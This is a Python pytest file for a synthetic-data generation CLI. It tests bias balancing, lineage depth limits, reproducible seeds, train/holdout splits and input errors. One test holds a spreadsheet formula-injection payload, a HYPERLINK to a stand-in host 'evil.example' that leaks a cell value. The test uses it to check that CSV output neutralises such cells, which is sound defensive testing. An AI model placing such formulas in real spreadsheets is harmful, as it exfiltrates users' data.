"""``python -m synth generate`` through the shared CLI runner."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from synth.cli import run_cli


def generate(*argv: str) -> int:
    return run_cli("synth", ("generate",), package="synth.commands", argv=["generate", *map(str, argv)])


@pytest.fixture(scope="module")
def small_adult(adult_path, tmp_path_factory):
    path = tmp_path_factory.mktemp("data") / "adult_small.csv"
    pd.read_csv(adult_path).sample(1500, random_state=0).to_csv(path, index=False)
    return path


def test_done_when_bias_shares_and_depth_refusal(adult_path, tmp_path, capsys):
    out = tmp_path / "s.csv"
    assert (
        generate(
            adult_path,
            "--generator",
            "rules",
            "--purpose",
            "bias",
            "--protected",
            "sex",
            "--target",
            "equal_groups",
            "--rows",
            20000,
            "--seed",
            1,
            "--out",
            out,
        )
        == 0
    )
    shares = pd.read_csv(out)["sex"].value_counts(normalize=True)
    assert shares.to_dict() == pytest.approx({"Female": 0.5, "Male": 0.5}, abs=0.02)
    sidecar = json.loads((tmp_path / "s.lineage.json").read_text())
    assert sidecar["depth"] == 1 and sidecar["purpose"] == "bias"
    assert "pre-training" not in sidecar["allowed_stages"]
    capsys.readouterr()
    assert generate(out, "--rows", 100, "--out", tmp_path / "s2.csv") == 2
    assert "limit of 1" in capsys.readouterr().err
    assert not (tmp_path / "s2.csv").exists()


@pytest.mark.parametrize("generator", ["rules", "gaussian_copula"])
def test_same_seed_gives_byte_identical_files(small_adult, tmp_path, generator):
    outputs = []
    for name in ("a.csv", "b.csv"):
        assert (
            generate(
                small_adult, "--generator", generator, "--rows", 300, "--seed", 9, "--out", tmp_path / name
            )
            == 0
        )
        outputs.append((tmp_path / name).read_bytes())
    assert outputs[0] == outputs[1]


def test_override_writes_depth_two_and_train_holdout(small_adult, tmp_path):
    first = tmp_path / "first.parquet"
    assert (
        generate(
            small_adult,
            "--rows",
            500,
            "--out",
            first,
            "--label",
            "income",
            "--train-out",
            tmp_path / "train.csv",
            "--holdout-out",
            tmp_path / "holdout.csv",
        )
        == 0
    )
    assert (
        len(pd.read_csv(tmp_path / "holdout.csv")) == 300 and len(pd.read_csv(tmp_path / "train.csv")) == 1200
    )
    second = tmp_path / "second.csv"
    assert (
        generate(first, "--rows", 200, "--out", second, "--override-justification", "collapse lab study") == 0
    )
    lineage = json.loads((tmp_path / "second.lineage.json").read_text())["lineage"]
    assert lineage["depth"] == 2 and lineage["override_justification"] == "collapse lab study"


def test_augmentation_and_outliers(small_adult, tmp_path):
    out = tmp_path / "aug.csv"
    assert (
        generate(
            small_adult,
            "--purpose",
            "augmentation",
            "--label",
            "income",
            "--rows",
            1000,
            "--outliers",
            "--out",
            out,
        )
        == 0
    )
    frame = pd.read_csv(out)
    assert frame["income"].value_counts(normalize=True)[">50K"] == pytest.approx(0.5, abs=0.02)
    assert frame["synthetic_outlier"].sum() == 10


def test_user_errors_exit_2(small_adult, tmp_path, capsys):
    assert generate(small_adult, "--rows", 10, "--out", tmp_path / "x.txt") == 2
    assert ".csv or .parquet" in capsys.readouterr().err
    assert generate(small_adult, "--purpose", "bias", "--rows", 10, "--out", tmp_path / "x.csv") == 2
    assert "protected attribute" in capsys.readouterr().err
    assert generate(small_adult, "--rows", 10, "--out", tmp_path / "y.csv", "--stages", "pre-training") == 2
    assert "justification" in capsys.readouterr().err


def test_csv_output_neutralises_formula_cells_copied_from_the_real_table(tmp_path):
    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(A1)", "+1+1", "plain"]
    real = pd.DataFrame({"note": hostile * 50, "age": [-3, 20, 31, 45] * 50})
    real.to_csv(tmp_path / "real.csv", index=False)
    out = tmp_path / "syn.csv"
    assert (
        generate(tmp_path / "real.csv", "--generator", "rules", "--rows", 200, "--seed", 1, "--out", out) == 0
    )
    rows = list(csv.DictReader(io.StringIO(out.read_text(), newline="")))
    notes = {row["note"] for row in rows}
    assert notes <= {"'" + h for h in hostile[:3]} | {"plain"} and len(notes) > 1
    assert all(not note.startswith(("=", "+", "-", "@")) for note in notes)
    assert pd.read_csv(out)["age"].dtype.kind in "if"  # typed numbers stay numbers, minus signs included
